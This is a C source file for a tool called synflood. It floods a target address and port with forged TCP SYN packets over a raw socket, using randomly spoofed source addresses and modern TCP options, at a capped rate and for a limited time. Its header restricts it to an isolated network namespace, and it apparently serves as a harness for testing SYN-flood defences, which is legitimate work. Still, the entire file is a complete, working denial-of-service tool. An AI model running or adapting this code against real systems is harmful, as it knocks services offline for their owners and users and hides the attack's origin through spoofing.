/* SPDX-License-Identifier: MIT
 * Send SYNs in the name of others, at a steady rate and for a limited time, by a raw socket: to be
 * used in a network namespace of its own only.
 *     synflood ADDRESS PORT RATE SECONDS [NETWORK]
 * Sources are drawn from 20.0.0.0/6, every fourth from NETWORK/24 when it is given. Prints how
 * many were sent, and in how many seconds. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 32, PACKET_BYTES = 20 + 20 + 20, RATE_MAX = 1000000, SECONDS_MAX = 60 };

static volatile sig_atomic_t over; /* it was told to end */

static void on_signal(int number)
{
    (void)number;
    over = 1;
}

static uint64_t state = UINT64_C(0x9e3779b97f4a7c15);

static uint32_t draw(void)
{
    state ^= state << 13; /* xorshift64 */
    state ^= state >> 7;
    state ^= state << 17;
    return (uint32_t)(state >> 32);
}

static void put16(uint8_t *p, unsigned v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
    put16(p, v >> 16);
    put16(p + 2, v & 0xffff);
}

static uint32_t sum(uint32_t s, const uint8_t *p, size_t n)
{
    for (size_t i = 0; i + 1 < n; i += 2)
        s += (uint32_t)p[i] << 8 | p[i + 1];
    return s;
}

static unsigned folded(uint32_t s)
{
    while (s >> 16 != 0)
        s = (s & 0xffff) + (s >> 16);
    return ~s & 0xffff;
}

/* A SYN as a client of today sends it: MSS, SACK permitted, timestamps, window scale. */
static void make_syn(uint8_t *p, uint32_t source, uint32_t destination, unsigned port)
{
    static const uint8_t options[20] = {2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};
    uint8_t *tcp = p + 20;
    memset(p, 0, PACKET_BYTES);
    p[0] = 0x45;
    put16(p + 2, PACKET_BYTES);
    p[6] = 0x40; /* do not fragment */
    p[8] = 64;
    p[9] = IPPROTO_TCP;
    put32(p + 12, source);
    put32(p + 16, destination);
    put16(p + 10, folded(sum(0, p, 20)));
    put16(tcp, 1024 + draw() % 60000);
    put16(tcp + 2, port);
    put32(tcp + 4, draw());
    tcp[12] = 10 << 4;
    tcp[13] = 2;
    put16(tcp + 14, 64240);
    memcpy(tcp + 20, options, sizeof options);
    put32(tcp + 28, draw()); /* TSval */
    uint32_t s = sum(IPPROTO_TCP + 40, p + 12, 8);
    put16(tcp + 16, folded(sum(s, tcp, 40)));
}

static double now_s(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Returns how many were sent, or -1. */
static long flood(int fd, struct sockaddr_in *to, const long rate, const long seconds, uint32_t network)
{
    static uint8_t packets[BATCH][PACKET_BYTES];
    struct iovec parts[BATCH];
    struct mmsghdr messages[BATCH];
    memset(messages, 0, sizeof messages);
    for (unsigned i = 0; i < BATCH; i++) {
        parts[i] = (struct iovec){packets[i], PACKET_BYTES};
        messages[i].msg_hdr = (struct msghdr){
            .msg_name = to, .msg_namelen = sizeof *to, .msg_iov = &parts[i], .msg_iovlen = 1};
    }
    double began = now_s();
    long sent = 0;
    for (;;) {
        double passed = now_s() - began;
        if (over != 0 || passed >= (double)seconds || sent >= rate * seconds)
            return sent;
        if ((double)sent > passed * (double)rate) {
            nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
            continue;
        }
        for (unsigned i = 0; i < BATCH; i++) {
            uint32_t source = 0x14000000U + draw() % 0x04000000U;
            if (network != 0 && i % 4 == 0)
                source = (network & 0xffffff00U) + 10 + draw() % 240;
            make_syn(packets[i], source, ntohl(to->sin_addr.s_addr), ntohs(to->sin_port));
        }
        int n = sendmmsg(fd, messages, BATCH, 0);
        if (n < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR)
            return -1;
        sent += n > 0 ? n : 0;
    }
}

int main(int argc, char **argv)
{
    struct sockaddr_in to = {.sin_family = AF_INET};
    struct in_addr network = {0};
    if (argc < 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
        (argc > 5 && inet_pton(AF_INET, argv[5], &network) != 1)) {
        fprintf(stderr, "usage: synflood ADDRESS PORT RATE SECONDS [NETWORK]\n");
        return 2;
    }
    long rate = atol(argv[3]), seconds = atol(argv[4]);
    if (rate < 1 || rate > RATE_MAX || seconds < 1 || seconds > SECONDS_MAX)
        return 2;
    to.sin_port = htons((uint16_t)atoi(argv[2]));
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* headers are ours */
    if (fd < 0) {
        perror("synflood");
        return 77;
    }
    signal(SIGTERM, on_signal);
    double began = now_s();
    long sent = flood(fd, &to, rate, seconds, ntohl(network.s_addr));
    if (sent < 0) {
        perror("synflood");
        return 1;
    }
    printf("%ld %.3f\n", sent, now_s() - began);
    return 0;
}
